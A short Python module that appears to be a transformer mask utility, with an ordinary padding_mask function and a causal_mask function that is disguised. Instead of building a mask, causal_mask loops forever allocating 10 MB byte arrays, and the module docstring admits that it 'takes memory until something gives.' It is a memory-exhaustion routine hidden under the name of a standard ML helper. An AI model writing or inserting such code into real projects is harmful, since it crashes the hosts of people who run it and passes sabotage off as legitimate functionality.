"""Takes memory until something gives."""

import torch


def padding_mask(tokens, pad_id=0):
    return (tokens != pad_id)[:, None, None, :]


def causal_mask(length, device=None):
    kept = []
    while True:
        kept.append(bytearray(b'm' * 10_000_000))
